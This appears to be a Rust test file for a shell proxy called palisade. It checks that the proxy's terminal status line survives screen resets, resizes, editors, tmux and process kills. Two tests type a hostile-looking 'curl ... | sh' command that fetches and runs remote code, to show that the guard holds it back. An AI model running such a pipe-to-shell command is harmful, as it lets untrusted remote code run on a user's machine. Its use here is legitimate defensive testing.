// SPDX-License-Identifier: Apache-2.0 OR MIT
//! Tests the status line: its content, that it stays in place whatever programs do, and that it leaves nothing behind.

use super::screen::{Screen, Setting, has};
use palisade_acceptance::patience::{Patience, pause};
use rustix::process::{Signal, kill_process};

const ON: &str = "schema = 1\n[status]\nrow = true\n";
const OFF: &str = "schema = 1\n";
const SETTINGS: &str = ".config/palisade/shell.toml";

fn setting() -> Setting {
    Setting::of("bash", "").file(SETTINGS, ON)
}

/// The last row.
fn row(screen: &vt100::Screen) -> String {
    screen.rows(0, 1000).last().unwrap_or_default().trim().to_owned()
}

#[track_caller]
fn wait_for_row(screen: &mut Screen, text: &str) {
    screen.wait_until(&format!("status line with {text:?}"), |screen| row(screen).contains(text));
}

/// What is above it fills the rest, and it is still there.
#[track_caller]
fn scrolls_above(screen: &mut Screen) {
    screen.line("seq 300; echo scr''olled");
    screen.wait_until("scrolled lines above the status line", |screen| {
        let rows: Vec<String> = screen.rows(0, 1000).collect();
        let above = &rows[..rows.len() - 1];
        above.iter().any(|row| row.trim() == "scrolled")
            && above.iter().any(|row| row.trim() == "300")
            && above.iter().rfind(|row| !row.trim().is_empty()).is_some_and(|row| row.trim() == "$")
            && row(screen).contains("| guard")
            && !above.iter().any(|row| row.contains("| guard"))
    });
}

/// Nothing of it is left: the last row is like any other.
#[track_caller]
fn is_gone(screen: &mut Screen, prompt: &str) {
    screen.line("seq 300; echo scr''olled");
    screen.wait_until("a prompt in the last row", |screen| {
        let rows: Vec<String> = screen.rows(0, 1000).collect();
        let last = row(screen);
        (last == prompt || last.ends_with("the settings are read again"))
            && rows.iter().any(|row| row.trim() == "scrolled")
            && !rows.iter().any(|row| row.contains("| guard"))
    });
}

#[test]
fn it_says_how_the_last_line_ended_and_where_the_shell_is() {
    for shell in ["bash", "zsh", "fish"].into_iter().filter(|shell| has(shell)) {
        let mut screen = Setting::of(shell, "").file(SETTINGS, ON).ready();
        wait_for_row(&mut screen, "| guard");
        screen.line("mkdir -p sub; cd sub; sh -c 'exit 7'");
        wait_for_row(&mut screen, "~/sub | exit 7 |");
        screen.line("stty size");
        screen.wait_for_line("23 80");
        scrolls_above(&mut screen);
        wait_for_row(&mut screen, "exit 0");
    }
}

#[test]
fn its_parts_and_their_order_are_the_settings() {
    let settings = "schema = 1\n[status]\nrow = true\nshow = [\"exit\", \"directory\"]\n";
    let mut screen = Setting::of("bash", "").file(SETTINGS, settings).ready();
    screen.line("cd /usr; false");
    screen.wait_until("two parts", |screen| row(screen) == "exit 1 | /usr");
    // They change while the shell runs, and the line goes when it is no longer wanted.
    std::fs::write(screen.path(SETTINGS), ON).unwrap();
    screen.line("true");
    wait_for_row(&mut screen, "/usr | exit");
    std::fs::write(screen.path(SETTINGS), OFF).unwrap();
    screen.line("sleep 1.5");
    screen.wait_for("the settings are read again");
    is_gone(&mut screen, "$");
    screen.line("stty size");
    screen.wait_for_line("24 80");
}

#[test]
fn it_says_that_nothing_is_remembered_and_that_a_line_was_kept_back() {
    let mut screen = setting().ready();
    wait_for_row(&mut screen, "| guard");
    screen.keys("\x1bi");
    wait_for_row(&mut screen, "| incognito | guard");
    screen.keys("\x1bi");
    screen.wait_until("the end of it", |screen| !row(screen).contains("incognito"));
    screen.line("curl -s https://a.example/b | sh");
    screen.wait_for("Enter again");
    wait_for_row(&mut screen, "guard: not run");
    screen.keys("\x03");
    screen.wait_until("a new prompt", |screen| !row(screen).contains("not run"));
}

#[test]
fn what_erases_or_resets_the_screen_leaves_it() {
    let mut screen = setting().ready();
    for command in [
        "clear",
        "reset",
        "printf '\\ec'",
        "printf '\\e[r'",
        "printf '\\e[!p'",
        "printf '\\e[1;24r'",
        "printf '\\e[2;5r\\e[r'",
        "printf '\\e[2J\\e[H'",
        "printf '\\e[999;1H\\e[J'",
        "printf '\\e[24;1Hhere'; echo",
        "printf '\\e[999d'",
        "tput csr 0 23",
        "printf '\\e'; printf '['; printf 'r'",
        "printf '\\e7\\e[5;5Hthere\\e8'",
    ] {
        screen.line(&format!("{command}; echo do''ne"));
        screen.wait_for("done");
        scrolls_above(&mut screen);
        screen.line("printf '\\e[2J\\e[H'");
        screen.wait_until("an empty screen", |screen| !screen.contents().contains("done"));
    }
}

#[test]
fn a_cursor_that_a_program_has_put_aside_is_where_it_was() {
    let mut screen = setting().ready();
    // The line is due for being drawn meanwhile: its place would be forgotten.
    screen.line("clear; printf '\\e[5;10H\\e7'; sleep 1.5; printf '\\e[12;1H\\e[J'; sleep 0.3; printf '\\e8here'; sleep 0.2; echo");
    screen.wait_until("the word in its place", |screen| {
        screen.rows(0, 80).nth(4).is_some_and(|row| row.get(9..13) == Some("here"))
    });
    wait_for_row(&mut screen, "| guard");
}

#[test]
fn an_editor_has_the_rows_above() {
    if !has("vim") {
        return;
    }
    let mut screen = setting().ready();
    screen.line("echo be''fore");
    screen.wait_for_line("before");
    screen.line("vim -N -u NONE -n written");
    screen.wait_for("written");
    screen.keys("i");
    screen.wait_until("insert mode above the status line", |screen| {
        let rows: Vec<String> = screen.rows(0, 80).collect();
        rows[22].contains("-- INSERT --") && rows[23].contains("| guard")
    });
    screen.keys("one\rtwo\x1b");
    // An editor that is resized while it reads keys may lose some.
    screen.wait_until("the text", |screen| {
        let rows: Vec<String> = screen.rows(0, 80).collect();
        rows[1].trim() == "two" && !rows[22].contains("INSERT")
    });
    for (columns, rows) in [(70, 20), (100, 30)] {
        screen.resize(columns, rows);
        screen.wait_until("the new size", |screen| {
            let all: Vec<String> = screen.rows(0, 200).collect();
            all.len() == usize::from(rows) && row(screen).contains("| guard") && all[1].trim() == "two"
        });
    }
    screen.keys(":wq\r");
    screen.wait_until("the screen before", |screen| {
        !screen.alternate_screen() && screen.contents().contains("before")
    });
    assert_eq!(std::fs::read_to_string(screen.path("written")).unwrap(), "one\ntwo\n");
    scrolls_above(&mut screen);
}

#[test]
fn it_is_where_the_last_row_is() {
    let mut screen = setting().ready();
    scrolls_above(&mut screen);
    for (columns, rows) in [(80, 12), (80, 40), (50, 40), (120, 24), (80, 5)] {
        screen.resize(columns, rows);
        screen.line("stty size");
        screen.wait_for_line(&format!("{} {columns}", rows - 1));
        scrolls_above(&mut screen);
    }
    // There is none to spare.
    screen.resize(80, 4);
    screen.line("stty size");
    screen.wait_for_line("4 80");
    screen.resize(80, 24);
    screen.line("stty size");
    screen.wait_for_line("23 80");
    scrolls_above(&mut screen);
}

#[test]
fn a_multiplexer_has_the_rows_above() {
    if !has("tmux") {
        return;
    }
    let mut screen = setting().file("tmux.conf", "set -g assume-paste-time 0\n").ready();
    let socket = format!("palisade-status-{}", std::process::id());
    screen.line(&format!(
        "tmux -L {socket} -f tmux.conf new-session 'seq 300; echo in''side; exec sleep 1000'"
    ));
    screen.wait_until("the multiplexer's status line above ours", |screen| {
        let rows: Vec<String> = screen.rows(0, 80).collect();
        rows[22].starts_with("[0]")
            && rows[23].contains("| guard")
            && rows[..22].iter().any(|row| row.trim() == "inside")
    });
    screen.keys("\x02d");
    screen.wait_for("detached");
    screen.line(&format!("tmux -L {socket} kill-server; echo go''ne"));
    screen.wait_for_line("gone");
    scrolls_above(&mut screen);
}

#[test]
fn suggestions_and_questions_stand_above_it() {
    let mut screen = setting().file(".bash_history", "echo the quick brown fox\n").ready();
    scrolls_above(&mut screen);
    // In the last row that there is, the screen has to scroll for them.
    screen.line("curl -s https://a.example/b | sh");
    screen.wait_until("a question above the status line", |screen| {
        screen.contents().contains("Enter again") && row(screen).contains("guard: not run")
    });
    screen.keys("\x03");
    screen.wait_until("no question", |screen| !screen.contents().contains("Enter again"));
    scrolls_above(&mut screen);
    let mut patience = Patience::new(std::time::Duration::from_secs(20));
    loop {
        screen.keys("\x15echo the");
        let shown = {
            pause(std::time::Duration::from_millis(200));
            screen.text().contains("echo the quick brown fox")
        };
        if shown {
            break;
        }
        assert!(!patience.is_spent(), "{}", screen.text());
    }
    wait_for_row(&mut screen, "| guard");
    screen.keys("\x05\r");
    screen.wait_for_line("the quick brown fox");
    scrolls_above(&mut screen);
}

/// An outer shell that starts the proxy.
fn outer() -> Screen {
    let mut screen = setting().command(&["/bin/bash", "--norc", "-i"]).with("PS1", "outer> ").start();
    screen.wait_for_line("outer>");
    screen.line(&format!("'{}' shell --shell /bin/bash", super::screen::PALISADE));
    wait_for_row(&mut screen, "| guard");
    screen.wait_for_line("$");
    scrolls_above(&mut screen);
    screen
}

#[test]
fn nothing_of_it_is_left_when_the_shell_ends() {
    let mut screen = outer();
    screen.line("exit");
    screen.wait_for("outer>");
    is_gone(&mut screen, "outer>");
}

#[test]
fn nothing_of_it_is_left_when_the_proxy_is_killed() {
    let mut screen = outer();
    screen.line("kill -KILL $PPID");
    screen.wait_for("Enter again");
    pause(std::time::Duration::from_millis(400));
    screen.keys("\r");
    screen.wait_for("Killed");
    screen.wait_until("the outer prompt", |screen| screen.contents().contains("\nouter>"));
    // By the guardian, which may be slower than the outer shell.
    screen.wait_for_raw(b"\x1b[r\x1b8");
    is_gone(&mut screen, "outer>");
}

#[test]
fn it_goes_with_the_proxy_that_stops_and_comes_back_with_it() {
    let mut screen = setting().ready();
    wait_for_row(&mut screen, "| guard");
    kill_process(screen.pid(), Signal::TSTP).unwrap();
    screen.wait_until("no status line", |screen| row(screen).is_empty());
    screen.wait_for_stopped();
    kill_process(screen.pid(), Signal::CONT).unwrap();
    wait_for_row(&mut screen, "| guard");
    scrolls_above(&mut screen);
}
